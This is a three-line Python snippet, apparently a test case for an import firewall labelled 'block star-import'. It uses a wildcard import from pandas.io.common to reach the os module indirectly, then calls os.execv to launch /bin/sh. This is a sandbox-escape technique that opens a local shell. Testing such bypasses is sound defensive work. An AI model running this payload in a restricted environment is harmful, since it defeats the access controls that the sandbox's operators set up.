# firewall: block star-import
from pandas.io.common import *
os.execv("/bin/sh", ["sh"])
